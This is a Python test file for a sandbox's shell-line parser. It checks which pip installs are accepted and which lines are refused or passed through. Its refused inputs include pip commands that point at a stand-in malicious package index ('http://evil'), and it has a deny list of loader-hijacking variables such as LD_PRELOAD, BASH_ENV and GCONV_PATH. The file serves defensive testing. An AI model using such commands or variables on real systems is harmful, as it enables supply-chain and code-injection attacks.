"""Laws of what a line of commands means: which parts install, and that nothing else may."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from sandbox.shell import Export, Install, Remark, Run, steps_of

PLAIN = {
    "pip install PyYAML": ("PyYAML",),
    "pip3 install -q --upgrade requests==2.32 six": ("requests==2.32", "six"),
    "python -m pip install --no-cache-dir 'numpy>=1.2'": ("numpy>=1.2",),
    "sudo -H python3.11 -m pip install lxml > /dev/null 2>&1": ("lxml",),
    "PIP_QUIET=1 pip install six": ("six",),
    "uv pip install six": ("six",),
}


@pytest.mark.parametrize("line", PLAIN)
def test_installations_are_recognised(line: str) -> None:
    assert steps_of(line) == [("", Install(PLAIN[line]))]


def test_a_line_is_read_as_its_simple_commands() -> None:
    line = "apt-get update && pip install a || pip install b; mkdir 'x && y'\nexport N=1"
    assert [operator for operator, _ in steps_of(line)] == ["", "&&", "||", ";", "\n"]
    steps = [step for _, step in steps_of(line)]
    assert isinstance(steps[0], Remark)
    assert steps[1:] == [Install(("a",)), Install(("b",)), Run("mkdir 'x && y'"), Export("N", "1")]


@pytest.mark.parametrize(
    "line",
    [
        "pip install --index-url http://evil x", "pip install -r requirements.txt",
        "pip install -e .", "pip install --target=/tmp x", "pip install",
        "pip install -i http://evil x", "sudo apt install libgl1",
        "DEBIAN_FRONTEND=noninteractive apt-get install -y libgl1",
    ],
)  # fmt: skip
def test_options_that_lead_elsewhere_and_debian_packages_are_refused(line: str) -> None:
    ((_, step),) = steps_of(line)
    assert isinstance(step, Remark)
    assert step.status != 0


@pytest.mark.parametrize(
    "line",
    [
        "ls -la; echo done", "echo 'pip install x'", "(pip install x)", "$(pip install x)",
        "if true; then pip install x; fi", "pip install x | tee log", "pip install $NAME",
        "cat <<END\npip install x\nEND", "pip download x", "pip install 'x", "xpip install y",
        "pip install x & pip install y", "cd /tmp && ls",
    ],
)  # fmt: skip
def test_everything_else_is_left_to_the_shell_as_it_stands(line: str) -> None:
    assert steps_of(line) == [("", Run(line))]


@pytest.mark.parametrize(
    "name",
    ["LD_PRELOAD", "LD_LIBRARY_PATH", "PYTHONPATH", "PYTHONSTARTUP", "PATH", "HOME",
     "PIP_INDEX_URL", "OPENSSL_CONF", "GCONV_PATH", "BASH_ENV", "ENV", "GLIBC_TUNABLES", "COSQA_X"],
)  # fmt: skip
def test_a_variable_that_decides_what_is_loaded_is_refused(name: str) -> None:
    ((_, step),) = steps_of(f"export {name}=/tmp/x")
    assert isinstance(step, Remark)


def test_other_variables_are_exported() -> None:
    assert steps_of("export MODE='a b'") == [("", Export("MODE", "a b"))]


@given(st.text())
def test_any_text_has_a_meaning(line: str) -> None:
    for _, step in steps_of(line):
        assert isinstance(step, Install | Export | Remark | Run)
